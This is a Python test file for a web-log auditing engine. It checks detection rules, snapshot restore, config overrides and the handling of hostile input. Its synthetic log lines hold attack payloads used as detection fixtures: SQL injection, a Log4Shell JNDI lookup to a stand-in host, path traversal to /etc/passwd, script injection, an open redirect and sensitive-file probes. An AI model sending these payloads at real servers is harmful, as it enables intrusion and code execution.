"""The detection engine over real decoded lines: windows on log time (the same findings
whatever the batch size, however the input is split across ``scan`` runs, across a
restart), operator customisation through the config, the "does it count" question, and
hostile input that must go through decode and detection without hanging.
"""

from __future__ import annotations

import random
import subprocess
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote, unquote_plus

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.config import load_config
from auditor.detect import Detector
from auditor.detectors.base import Folds
from auditor.detectors.fields import decode_query, decode_url
from auditor.engine import build_engine
from auditor.errors import RulesetError
from auditor.formats import FormatSpec, build_decoder
from auditor.model import Event, Hit, Line
from auditor.packedevents import pack
from auditor.percent import _decode, decode_once, decode_simple
from auditor.pipeline import epoch_ms
from auditor.redact import Redactor
from auditor.rules import bundled_rules_dir, load_rulesets
from auditor.store import Store
from daemon_helpers import la as run_cli

T0 = datetime(2025, 10, 10, 12, 0, 0, tzinfo=UTC)
RULESET = load_rulesets([bundled_rules_dir()], {})


def clf(
    ip: str, t: datetime, method: str, target: str, status: int, ua: str = "okhttp/4.12"
) -> str:
    stamp = t.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{ip} - - [{stamp}] "{method} {target} HTTP/1.1" {status} 512 "-" "{ua}"'


def traffic(minutes: int = 40, seed: int = 7) -> list[str]:
    """Normal API traffic with attacks mixed in, in log-time order (one line per second)."""
    rnd = random.Random(seed)
    out: list[tuple[datetime, str]] = []
    for s in range(minutes * 60):
        t = T0 + timedelta(seconds=s)
        ip = f"192.0.2.{rnd.randrange(1, 40)}"
        route = rnd.choice(["/api/v1/items/{}", "/api/v1/users/me", "/health", "/api/v1/cart"])
        status = 404 if rnd.random() < 0.03 else 200
        out.append((t, clf(ip, t, "GET", route.format(rnd.randrange(1, 500)), status)))
    attacks = [
        # a brute force, a slow one, a scanner, injections, an enumeration, a flood, PII
        *[(60 + i * 2, clf("203.0.113.50", T0, "POST", "/api/login", 401)) for i in range(12)],
        *[(300 + i * 90, clf("203.0.113.51", T0, "POST", "/api/login", 401)) for i in range(15)],
        *[
            (700 + i, clf("203.0.113.60", T0, "GET", p, 404, "Nuclei"))
            for i, p in enumerate(["/.env", "/.git/config", "/wp-admin/", "/phpmyadmin/"] * 6)
        ],
        (900, clf("203.0.113.61", T0, "GET", "/search?q=1%27%20union%20select%20pass", 200)),
        (901, clf("203.0.113.61", T0, "GET", "/x?u=${jndi:ldap://e.example/a}", 404)),
        *[
            (1000 + i * 2, clf("203.0.113.62", T0, "GET", f"/api/v1/invoices/{1000 + i}", 200))
            for i in range(30)
        ],
        *[(1500, clf("203.0.113.63", T0, "GET", f"/R{i:05d}", 404)) for i in range(45)],
        (1600, clf("203.0.113.64", T0, "GET", "/u?email=jane.doe%40example.org", 200)),
        *[(1700 + i, clf("203.0.113.65", T0, "GET", "/api/v1/report", 500)) for i in range(30)],
    ]
    for offset, line in attacks:
        t = T0 + timedelta(seconds=offset)
        out.append(
            (t, line.replace(T0.strftime("%d/%b/%Y:%H:%M:%S"), t.strftime("%d/%b/%Y:%H:%M:%S")))
        )
    out.sort(key=lambda x: x[0])
    return [line for _, line in out]


def decode_all(lines: Sequence[str]) -> list[Event]:
    decode = build_decoder(FormatSpec("nginx-combined"), Redactor(b"k" * 32), "api")
    events = []
    for i, text in enumerate(lines):
        ev = decode(Line("api", "access.log", i * 200, len(text) + 1, text))
        assert ev is not None, text
        events.append(ev)
    return events


def hit_tuple(h: Hit) -> tuple[Any, ...]:
    return (h.rule_id, h.key, h.timestamp, h.first_seen, h.count, str(h.severity), h.evidence)


def episodes(hits: Iterable[Hit]) -> list[tuple[Any, ...]]:
    """Hits folded as the store folds them into findings (``Store._fold_hits``): per rule
    and key, an episode until a gap; count added, first and last seen, the highest
    severity with the evidence of the first hit that had it. Detectors fold runs of
    count-1 hits themselves (``Folds``), so which hits make a finding depends on how the
    events were cut into batches, and the findings do not."""
    latest: dict[tuple[str, str], list[Any]] = {}
    out: list[list[Any]] = []
    for h in hits:
        first, last = int(h.first_seen.timestamp() * 1000), int(h.timestamp.timestamp() * 1000)
        k = (h.rule_id, h.key)
        ep = latest.get(k)
        if ep is not None and ep[4] >= first - h.episode_gap_s * 1000:
            ep[2] += h.count
            ep[3], ep[4] = min(ep[3], first), max(ep[4], last)
            if int(h.severity) > ep[5]:
                ep[5], ep[6] = int(h.severity), h.evidence
            ep[7] += h.emits
        else:
            ep = latest[k] = [*k, h.count, first, last, int(h.severity), h.evidence, h.emits]
            out.append(ep)
    return sorted(tuple(ep) for ep in out)


def run_chunks(events: Sequence[Event], cuts: Sequence[int]) -> list[tuple[Any, ...]]:
    """Hits when a new Detector resumes from the previous one's snapshot at every cut."""
    det = Detector(RULESET)
    hits: list[tuple[Any, ...]] = []
    for i, ev in enumerate(events):
        if i in cuts:
            det = Detector.restore(RULESET, det.snapshot())
        hits.extend(hit_tuple(h) for h in det.observe(ev))
    return hits


@pytest.fixture(scope="module")
def events() -> list[Event]:
    return decode_all(traffic())


def test_traffic_raises_the_planted_findings(events: list[Event]) -> None:
    hits = run_chunks(events, ())
    rules = {(h[0], h[1]) for h in hits}
    for want in [
        ("auth.bruteforce-burst", "203.0.113.50"),
        ("auth.bruteforce-slow", "203.0.113.51"),
        ("probe.sensitive-file", "203.0.113.60"),
        ("injection.sqli", "203.0.113.61"),
        ("injection.log4shell", "203.0.113.61"),
        ("abuse.random-uri-flood", "203.0.113.63"),
        ("abuse.error-burst", "203.0.113.65"),
    ]:
        assert want in rules, want
    assert any(r == "abuse.enumeration" for r, _ in rules)
    assert any(r == "pii.email-in-url" for r, _ in rules)
    # The normal clients raise nothing behavioural.
    assert not [h for h in hits if h[1].startswith("192.0.2.")]


def test_restart_anywhere_gives_the_same_hits(events: list[Event]) -> None:
    whole = run_chunks(events, ())
    assert whole
    n = len(events)
    for cuts in ([n // 2], [1, 2, 3], list(range(0, n, 97)), list(range(0, n, 1000))):
        assert run_chunks(events, cuts) == whole, cuts


def test_snapshot_is_compact_and_restores_windows(events: list[Event]) -> None:
    det = Detector(RULESET)
    for ev in events[:1500]:
        det.observe(ev)
    blob = det.snapshot()
    assert len(blob) < 200_000
    again = Detector.restore(RULESET, blob)
    assert again.snapshot() == blob


def test_version_1_snapshots_still_restore(events: list[Event]) -> None:
    """Version 2 writes the larger states as JSON objects; a version 1 blob (lists of
    pairs) taken before an upgrade restores the same windows."""
    det = Detector(RULESET)
    det.observe_many(events)
    blob = det.snapshot()
    v1 = orjson.loads(blob)
    v1["v"] = 1
    for _, data in v1["w"].values():
        data[1] = [[k, state] for k, state in data[1].items()]
        for _, state in data[1]:
            if state and isinstance(state[0], dict):  # a distinct window's values
                state[0] = list(state[0].items())
    for ident, (_, data) in v1["d"].items():
        if ident.startswith("enumeration:"):
            v1["d"][ident][1] = [[k, [list(s[0].items()), *s[1:]]] for k, s in data.items()]
    assert any(data for _, data in v1["d"].values())
    assert Detector.restore(RULESET, orjson.dumps(v1)).snapshot() == blob


def test_unreadable_or_stale_snapshot_starts_fresh() -> None:
    assert Detector.restore(RULESET, b"not json").snapshot() == Detector(RULESET).snapshot()
    assert Detector.restore(RULESET, b'{"v": 999}').snapshot() == Detector(RULESET).snapshot()


def test_changed_rule_drops_only_its_own_state(tmp_path: Path, events: list[Event]) -> None:
    det = Detector(RULESET)
    for ev in events:
        det.observe(ev)
    blob = det.snapshot()
    from auditor.config import RuleOverride

    tuned = load_rulesets(
        [bundled_rules_dir()], {"auth.bruteforce-slow": RuleOverride(params={"count": 20})}
    )
    state = orjson.loads(Detector.restore(tuned, blob).snapshot())
    old = orjson.loads(blob)
    assert state["w"]["auth.bruteforce-burst"] == old["w"]["auth.bruteforce-burst"]
    assert state["w"]["auth.bruteforce-slow"] != old["w"]["auth.bruteforce-slow"]


def flood_and_traffic() -> list[Event]:
    """The test traffic plus a client flooding an id route, some answered 429 and 5xx, and
    a late line: every stateful detector (volume, enumeration, error rate...) fires."""
    lines = traffic(minutes=20)
    flood = [
        clf(
            "203.0.113.70",
            T0 + timedelta(seconds=300 + i * 0.04),
            "GET",
            f"/api/v1/orders/{7000 + i}",
            (429 if 900 <= i < 920 else 502 if i % 9 == 0 else 200),
        )
        for i in range(1400)
    ]
    late = clf("192.0.2.9", T0 + timedelta(seconds=10), "GET", "/api/v1/cart", 200)
    events = decode_all(sorted(lines + flood, key=lambda x: x.split("[", 1)[1][:20]) + [late])
    return sorted(events[:-1], key=lambda e: e.timestamp) + events[-1:]


@pytest.mark.parametrize("fold", [False, True])
def test_observe_many_gives_the_hits_of_observe_whatever_the_batch(
    monkeypatch: pytest.MonkeyPatch, fold: bool
) -> None:
    """The same hits, or with folding (``Folds``, the default) the same findings."""
    monkeypatch.setattr(Folds, "enabled", fold)
    events = flood_and_traffic()
    det = Detector(RULESET)
    one_by_one = [h for ev in events for h in det.observe(ev)]
    rules = {h.rule_id for h in one_by_one}
    assert {"abuse.client-volume-ceiling", "abuse.no-rate-limit", "abuse.enumeration"} <= rules
    for size in (1, 7, 500, len(events)):
        det = Detector(RULESET)
        got: list[Hit] = []
        for lo in range(0, len(events), size):
            got.extend(det.observe_many(events[lo : lo + size]))
            if size == 500:  # and a restart after every batch
                det = Detector.restore(RULESET, det.snapshot())
        if fold:
            assert episodes(got) == episodes(one_by_one), size
            if size == len(events):
                assert len(got) < len(one_by_one) / 2  # it did fold
        else:
            assert [hit_tuple(h) for h in got] == [hit_tuple(h) for h in one_by_one], size


ODD_TARGETS = [
    "/caf\u00e9/../etc/passwd",
    "/a\nb/.env",
    "http://x.example/admin",
    "/x?q=%3Cscript%3Ealert(1)",
    "/x?q=a+union+select+1",
    "//phpMyAdmin/",
    "/./.git/config",
    "/",
    "/static/app.js?x=None",
    "/wp-login.php",
    "/x?u=$%7Bjndi:ldap://e/a%7D",
    "/" + "A" * 8000,
    "/x/" + "b" * 9000 + "/.git/config?q=1%27%20or%201=1",
    "/x?" + "q" * 9000 + "/.git/config",
    "/x?q=caf\u00e9&u=../../etc/passwd",
    "/x?q=a\nb&u=../../etc/passwd",
    "/x?next=//evil.example/&f=/./.env",
    "/etc/passwd?",
    "/" + "A" * 7895 + "?q=1",
]


def test_batches_are_sieved_without_losing_a_gated_event() -> None:
    """``observe_many`` gates whole batches in bulk first (``auditor.detectors.sieve``):
    every example line of the bundled rules (all formats) and odd URLs that one gate or
    another lets through is among the suspects, and the hits are those of ``observe``."""
    from auditor.detectors.examples import Decoders, example_events

    decoders = Decoders()
    events: list[Event] = []
    for rule in RULESET.rules:
        for ex in rule.examples:
            events.extend(example_events(ex, decoders.get(ex.format)))
    base = events[0]
    for target in ODD_TARGETS:
        path, _, query = target.partition("?")
        events.append(replace(base, path=path, query=query or None, route=path[:50]))
    det = Detector(RULESET)
    suspects = set(det._suspects(events)[0])
    for i, ev in enumerate(events):
        if det._candidates(ev, 0.0)[0]:
            assert i in suspects, (ev.method, ev.path, ev.query, ev.status, ev.user_agent)
    one_by_one = [h for ev in events for h in det.observe(ev)]
    assert episodes(one_by_one) == episodes(Detector(RULESET).observe_many(events))


def test_the_sieve_lets_through_every_event_a_transport_rule_can_fire_on() -> None:
    """The transport rules (plain HTTP, credentials or PII over it, weak TLS) look at the
    events the sieve marks for them: scheme "http", port 80, TLS below 1.2, a relative
    target. HTTPS with a current TLS version, which gateways that log the scheme log on
    every line, is not marked (else the detecting process builds every such event from
    its row), and the hits are those of ``observe`` one by one."""
    from itertools import product

    from auditor.model import Exposure
    from factories import make_event

    leak = (Exposure("password", "query", "password", "***", "d" * 16),)
    events = [
        make_event(
            timestamp=datetime(2026, 11, 20, 12, 0, tzinfo=UTC) + timedelta(seconds=k),
            scheme=scheme,
            server_port=port,
            tls_version=tls,
            path=path,
            route=path,
            status=status,
            exposures=expo,
            host="api.example.com",
        )
        for k, (scheme, port, tls, path, status, expo) in enumerate(
            product(
                (None, "http", "https"),
                (None, 80, 443, 8443),
                (None, "1.0", "1.2", "1.3", "SSLv3", "TLSv1.3", "odd"),
                ("/", "http://x.example/a"),
                (200, 301),
                ((), leak),
            )
        )
    ]
    det = Detector(RULESET)
    suspects = set(det._suspects(events)[0])
    transport = {r.id for r in RULESET.rules if r.detector == "transport"}
    fired = {  # the transport rules keep no state: a detector per event
        i
        for i, ev in enumerate(events)
        if any(h.rule_id in transport for h in Detector(RULESET).observe(ev))
    }
    assert fired and fired <= suspects
    quiet = [
        i
        for i, ev in enumerate(events)
        if ev.scheme == "https"
        and ev.tls_version in ("1.2", "1.3")
        and ev.server_port != 80
        and ev.path == "/"
        and not ev.exposures
    ]
    assert quiet and not suspects.intersection(quiet)
    one = Detector(RULESET)
    one_by_one = [h for ev in events for h in one.observe(ev)]
    assert episodes(Detector(RULESET).observe_many(events)) == episodes(one_by_one)


def url_pieces() -> list[str]:
    """Literals of the bundled URL gates, and what hides them (case, escapes, '+', '//')."""
    url = Detector(RULESET)._plan.url
    lits = [n for n, _ in url.prefixes.items + url.suffixes.items + url.always]
    lits += [n for group in url.groups.values() for n, _ in group[1]]
    lits += [n for _, items in url.pairs for n, _ in items]
    return sorted(set(lits)) + ["%2e", "%252f", "+", "//", "/./", "?", "=", "\u00e9", "\n"]


def test_the_sieve_lets_through_every_event_a_url_gate_passes() -> None:
    """Targets stitched from gate literals and their disguises, the '?' anywhere (the sieve
    searches paths and queries apart): an event a URL gate passes is a URL suspect, and
    gating the suspects with or without the URL gates as the sieve says changes nothing."""
    rnd = random.Random(7)
    pieces = url_pieces()
    base = decode_all([clf("192.0.2.1", T0, "GET", "/", 200)])[0]
    events = []
    for _ in range(3000):
        parts = [rnd.choice(pieces) for _ in range(rnd.randrange(1, 4))]
        parts = [p.upper() if rnd.random() < 0.2 else p for p in parts]
        target = "/" * rnd.randrange(0, 2) + rnd.choice(["", "a/", "x?"]) + "".join(parts)
        path, sep, query = target.partition("?")
        events.append(replace(base, path=path, query=query if sep else None, route=path))
    det = Detector(RULESET)
    for lo in range(0, len(events), 700):
        batch = events[lo : lo + 700]
        suspects, url = det._suspects(batch)
        for j, ev in enumerate(batch):
            full = sorted(det._candidates(ev, 0.0)[0])
            if full:
                assert j in suspects, (ev.path, ev.query)
            assert sorted(det._candidates(ev, 0.0, j in url)[0]) == full, (ev.path, ev.query)


DEMO_LOG = Path(__file__).resolve().parents[1] / "examples" / "logs" / "api-access.log"


@pytest.mark.parametrize("size", [1, 16, 17, 333, 5000])
def test_marks_from_another_detector_give_the_same_hits(size: int) -> None:
    """A decode worker sieves with its own Detector of the same rules (``Detector.sieve``)
    and the detecting process uses its marks instead of sieving: the hits are those of its
    own sieve, whatever the batch size (a stretch of 16 events or fewer is not sieved at
    home but is with marks). Events: the demo log's incidents and PII, every bundled
    example, odd and disguised URLs."""
    from auditor.detectors.examples import Decoders, example_events

    text = DEMO_LOG.read_text().splitlines()
    events = decode_all(text)
    decoders = Decoders()
    for rule in RULESET.rules:
        for ex in rule.examples:
            events.extend(example_events(ex, decoders.get(ex.format)))
    rnd = random.Random(11)
    pieces = url_pieces()
    base = events[0]
    for target in ODD_TARGETS + ["".join(rnd.choices(pieces, k=3)) for _ in range(500)]:
        path, sep, query = target.partition("?")
        events.append(replace(base, path=path, query=query if sep else None, route=path[:50]))
    home, marked, sieving = Detector(RULESET), Detector(RULESET), Detector(RULESET)
    packed = Detector(RULESET)  # the events left as rows, their columns beside them
    want: list[tuple[Any, ...]] = []
    got: list[tuple[Any, ...]] = []
    got_packed: list[tuple[Any, ...]] = []
    for lo in range(0, len(events), size):
        batch = events[lo : lo + size]
        want.extend(hit_tuple(h) for h in home.observe_many(batch))
        marks = sieving.sieve(batch, "t")
        assert marks.count == len(batch) and set(marks.url) <= set(marks.suspects)
        got.extend(hit_tuple(h) for h in marked.observe_many(batch, marks))
        rows = pack(batch, epoch_ms(batch), sieving.columns).events()
        got_packed.extend(hit_tuple(h) for h in packed.observe_many(rows, marks))
    assert got == want
    assert got_packed == want
    assert len(want) > 50


# --- whole process: scan in one run vs. many appended chunks ------------------------------


def la(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    res = run_cli(*args, cwd=cwd)
    assert res.returncode == 0, res.stderr
    return res


def findings(db: Path, cwd: Path) -> list[dict[str, Any]]:
    out = la("findings", "--db", str(db), "--json", cwd=cwd).stdout
    rows = [orjson.loads(line) for line in out.splitlines() if line.strip()]
    for row in rows:
        row.pop("id", None)
    return sorted(rows, key=lambda r: orjson.dumps(r, option=orjson.OPT_SORT_KEYS))


def chunks(data: bytes, cuts: Sequence[int]) -> Iterator[bytes]:
    start = 0
    for cut in [*cuts, len(data)]:
        yield data[start:cut]
        start = cut


def test_scan_split_across_runs_and_batches_gives_the_same_findings(tmp_path: Path) -> None:
    data = ("\n".join(traffic(minutes=35)) + "\n").encode()
    whole_log, whole_db = tmp_path / "one" / "access.log", tmp_path / "one.db"
    whole_log.parent.mkdir()
    whole_log.write_bytes(data)
    la("scan", "--db", str(whole_db), "--source", "api", str(whole_log), cwd=tmp_path)
    expected = findings(whole_db, tmp_path)
    assert len(expected) >= 8
    assert {f["rule_id"] for f in expected} >= {"auth.bruteforce-burst", "injection.sqli"}

    # Tiny batches (config: 4 lines per batch), appended chunks, one cut mid-line.
    cfg = tmp_path / "small.toml"
    cfg.write_text("[daemon]\nbatch_lines = 1\n")
    parts_log, parts_db = tmp_path / "parts" / "access.log", tmp_path / "parts.db"
    parts_log.parent.mkdir()
    n = len(data)
    mid_line = data.index(b"\n", n // 3) - 10
    cuts = [n // 7, mid_line, n // 2, (3 * n) // 4, n - 300]
    for chunk in chunks(data, cuts):
        with parts_log.open("ab") as f:
            f.write(chunk)
        la(
            "scan", "--config", str(cfg), "--db", str(parts_db), "--source", "api",
            str(parts_log), "--quiet", cwd=tmp_path,
        )  # fmt: skip
    got = findings(parts_db, tmp_path)
    assert got == expected


# --- operator customisation through the config and the engine ------------------------------

OWN_RULE = """
[[rule]]
id = "local.export"
title = "Bulk export used"
severity = "low"
category = "admin-access"
description = "Someone used the bulk export."
remediation = "Check who exported what."
controls = ["GDPR:Art.32", "ACME-POLICY:EXP-1"]
where = { path = { prefix = "/api/export" }, method = { eq = "GET" } }

  [[rule.example]]
  line = '203.0.113.9 - - [10/Oct/2025:13:55:36 +0000] "GET /api/export/all HTTP/1.1" 200 53 "-" "curl/8"'
  fires = true
"""


def engine_for(tmp_path: Path, config_text: str) -> Detector:
    cfg = tmp_path / "config.toml"
    cfg.write_text(config_text)
    config = load_config(cfg)
    db = tmp_path / "audit.db"
    store = Store.open(db)
    try:
        return build_engine(config, store, db).detector
    finally:
        store.close()


def rule_hits(det: Detector, lines: Sequence[str], rule_id: str) -> list[Hit]:
    return [h for ev in decode_all(lines) for h in det.observe(ev) if h.rule_id == rule_id]


def burst(
    ip: str, n: int, target: str = "/api/login", status: int = 401, ua: str = "curl/8"
) -> list[str]:
    return [clf(ip, T0 + timedelta(seconds=i), "POST", target, status, ua) for i in range(n)]


SQLI = clf(
    "203.0.113.70", T0, "GET", "/search?q=1%27%20union%20select%20password", 200, "sqlmap/1.7"
)


def test_own_rule_file_from_config(tmp_path: Path) -> None:
    own = tmp_path / "own.toml"
    own.write_text(OWN_RULE)
    det = engine_for(tmp_path, '[rules]\npaths = ["own.toml"]\n')  # relative to the config
    assert det.ruleset.get("local.export") is not None
    assert det.ruleset.get("auth.bruteforce-burst") is not None  # bundled still on
    hits = rule_hits(det, [clf("203.0.113.9", T0, "GET", "/api/export/all", 200)], "local.export")
    assert [h.controls for h in hits] == [("GDPR:Art.32", "ACME-POLICY:EXP-1")]


def test_own_rules_only(tmp_path: Path) -> None:
    (tmp_path / "own.toml").write_text(OWN_RULE)
    det = engine_for(tmp_path, '[rules]\nbundled = false\npaths = ["own.toml"]\n')
    assert [r.id for r in det.ruleset.rules] == ["local.export"]


def test_own_rule_reusing_a_bundled_id_is_named(tmp_path: Path) -> None:
    (tmp_path / "own.toml").write_text(OWN_RULE.replace("local.export", "admin.access"))
    with pytest.raises(RulesetError, match=r"own\.toml: rule 'admin\.access'.*already a bundled"):
        engine_for(tmp_path, '[rules]\npaths = ["own.toml"]\n')


def test_override_threshold_params_and_severity(tmp_path: Path) -> None:
    default = engine_for(tmp_path, "")
    assert rule_hits(default, burst("203.0.113.80", 3), "auth.bruteforce-burst") == []
    tuned = engine_for(
        tmp_path,
        '[rules.override."auth.bruteforce-burst"]\nseverity = "critical"\nparams = { burst = 2 }\n',
    )
    hits = rule_hits(tuned, burst("203.0.113.80", 3), "auth.bruteforce-burst")
    assert hits and {str(h.severity) for h in hits} == {"critical"}


def test_override_detector_params(tmp_path: Path) -> None:
    lines = [
        clf("203.0.113.81", T0 + timedelta(seconds=2 * i), "GET", f"/api/v1/orders/{500 + i}", 200)
        for i in range(12)
    ]
    assert rule_hits(engine_for(tmp_path, ""), lines, "abuse.enumeration") == []
    tuned = engine_for(tmp_path, '[rules.override."abuse.enumeration"]\nparams = { run = 10 }\n')
    assert rule_hits(tuned, lines, "abuse.enumeration")


def test_bad_override_param_names_rule_and_key(tmp_path: Path) -> None:
    with pytest.raises(RulesetError, match=r"rule 'auth.bruteforce-burst': key 'params.colour'"):
        engine_for(tmp_path, '[rules.override."auth.bruteforce-burst"]\nparams = { colour = 1 }\n')


def test_disable_rules(tmp_path: Path) -> None:
    det = engine_for(
        tmp_path,
        '[rules]\ndisable = ["injection.sqli"]\n[rules.override."probe.long-url"]\ndisabled = true\n',
    )
    assert det.ruleset.get("injection.sqli") is None
    assert det.ruleset.get("probe.long-url") is None
    assert set(det.ruleset.disabled) == {"injection.sqli", "probe.long-url"}
    assert rule_hits(det, [SQLI], "injection.sqli") == []


@pytest.mark.parametrize(
    ("allow", "line", "quiet"),
    [
        ('allow_cidrs = ["203.0.113.64/28"]', SQLI, True),
        ('allow_cidrs = ["2001:db8::/32"]', SQLI, False),
        ('allow_paths = ["^/search$"]', SQLI, True),
        ('allow_paths = ["^/other"]', SQLI, False),
        ('allow_user_agents = ["^sqlmap/"]', SQLI, True),
        ('allow_user_agents = ["^curl/"]', SQLI, False),
    ],
)
def test_allow_lists_per_rule(tmp_path: Path, allow: str, line: str, quiet: bool) -> None:
    det = engine_for(tmp_path, f'[rules.override."injection.sqli"]\n{allow}\n')
    hits = rule_hits(det, [line], "injection.sqli")
    assert (hits == []) is quiet
    verdict = det.verdict(decode_all([line])[0], "injection.sqli")
    assert (verdict.verdict == "no") is quiet
    if quiet:
        assert "allow-listed" in verdict.reason
    # The allow-list is per rule: the scanner user agent is still a scanner.
    assert rule_hits(det, [line], "probe.scanner-user-agent")


def test_allow_list_on_detector_and_threshold_rules(tmp_path: Path) -> None:
    det = engine_for(
        tmp_path,
        '[rules.override."auth.bruteforce-burst"]\nallow_cidrs = ["203.0.113.0/24"]\n'
        '[rules.override."pii.email-in-url"]\nallow_paths = ["^/newsletter/"]\n',
    )
    assert rule_hits(det, burst("203.0.113.82", 10), "auth.bruteforce-burst") == []
    assert rule_hits(det, burst("198.51.100.82", 10), "auth.bruteforce-burst")
    sub = clf("198.51.100.83", T0, "GET", "/newsletter/subscribe?email=a.b%40example.org", 200)
    other = clf("198.51.100.83", T0, "GET", "/profile?email=a.b%40example.org", 200)
    assert rule_hits(det, [sub], "pii.email-in-url") == []
    assert rule_hits(det, [other], "pii.email-in-url")


def test_bad_allow_list_entries_are_errors(tmp_path: Path) -> None:
    with pytest.raises(RulesetError, match=r"allow.cidrs.*'10\.0\.0\.300/8' is not a CIDR"):
        engine_for(tmp_path, '[rules.override."injection.sqli"]\nallow_cidrs = ["10.0.0.300/8"]\n')
    with pytest.raises(RulesetError, match=r"allow.paths.*nested quantifiers"):
        engine_for(tmp_path, '[rules.override."injection.sqli"]\nallow_paths = ["^/(a+)+$"]\n')


# --- the "does this event count toward rule X" question ----------------------------------


def test_verdict_fires_counts_or_why_not() -> None:
    det = Detector(RULESET)
    fail = decode_all(burst("203.0.113.90", 1))[0]
    v = det.verdict(fail, "auth.bruteforce-burst")
    assert v.verdict == "counts" and "1 of 5" in v.reason
    for _ in range(3):
        det.observe(fail)
    assert "4 of 5" in det.verdict(fail, "auth.bruteforce-burst").reason
    assert det.verdict(decode_all([SQLI])[0], "injection.sqli").verdict == "fires"
    ok = decode_all([clf("203.0.113.90", T0, "GET", "/api/v1/items/3", 200)])[0]
    no = det.verdict(ok, "injection.sqli")
    assert no.verdict == "no" and no.reason
    with pytest.raises(KeyError):
        det.verdict(ok, "no.such-rule")


def test_verdict_does_not_change_state() -> None:
    det = Detector(RULESET)
    fail = decode_all(burst("203.0.113.91", 1))[0]
    before = det.snapshot()
    for _ in range(10):
        det.verdict(fail, "auth.bruteforce-burst")
    assert det.snapshot() == before


# --- hostile input -----------------------------------------------------------------------

HOSTILE = {
    "encoded-at": "/" + "%2540" * 200_000,
    "digit-runs": "/pay?n=" + "4111-1111 " * 100_000,
    "nested-encoding": "/" + "%25252525252e" * 80_000,
    "param-pairs": "/s?" + "a=&" * 330_000,
    "traversal-xss": "/" + "%2e%2e%2f" * 40_000 + "<a(" * 100_000,
    "digits": "/" + "1" * 1_000_000,
    "emails": "/u?e=" + "a@b.co," * 140_000,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_url_goes_through_decode_and_detect(name: str) -> None:
    target = HOSTILE[name][: 1 << 20]
    line = clf("203.0.113.99", T0, "GET", target, 404)
    decode = build_decoder(FormatSpec("nginx-combined"), Redactor(b"k" * 32), "api")
    ev = decode(Line("api", "access.log", 0, len(line) + 1, line))
    det = Detector(RULESET)
    if ev is None:  # a decoder may refuse it as too long: that is counted, not a crash
        return
    det.observe(ev)
    det.explain(ev)
    det.observe(replace(ev, timestamp=ev.timestamp + timedelta(seconds=1)))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["%41", "%2f", "%25", "%2540", "\\", "\\x", "%7F", "%00", "a", "%", "%4", "%e9"]
            + ["%C3%A9", "%c3", "+", "%2B", "\u00e9", "%252e"]
        ),
        max_size=120,
    )
)
def test_fast_percent_decoding_is_the_same_decoding(parts: list[str]) -> None:
    # The C fast path for long hostile URLs must not change what redaction or rules see.
    raw = "".join(parts) * 3
    fast = decode_simple(raw)
    if fast is not None:
        assert fast == _decode(raw, None) == unquote(raw, errors="replace")
    assert decode_once(raw) == _decode(raw, None)
    assert decode_url(raw) == decode_url_slow(raw)
    assert decode_query(raw) == decode_query_slow(raw)


def decode_url_slow(text: str) -> str:
    once = unquote(text, errors="replace")
    return unquote(once, errors="replace") if "%" in once else once


def decode_query_slow(text: str) -> str:
    once = unquote_plus(text, errors="replace")
    return unquote_plus(once, errors="replace") if "%" in once else once


@pytest.mark.parametrize("kind", ["count", "distinct", "burst"])
@pytest.mark.parametrize("n", [1, 2, 5])
def test_a_window_key_starts_as_the_general_path_would_start_it(kind: str, n: int) -> None:
    """``Window.add`` builds a new key's state in one step (``_first``): the same state,
    and the same answer, as ``_new`` then ``_add``."""
    from auditor.detectors.windows import make_window
    from auditor.rules import Threshold

    for value in ("/a", None):
        th = Threshold(kind, n, 10.0, ("client_ip",), "path" if kind == "distinct" else None)
        fast, slow = make_window(th), make_window(th)
        got = fast.add("k", 5.0, value)
        want = slow._add(slow._new(5.0), 5.0, value)
        slow.keys["k"] = slow._new(5.0)
        slow._add(slow.keys["k"], 5.0, value)
        assert got == want
        assert orjson.dumps(fast.dump()) == orjson.dumps(slow.dump())
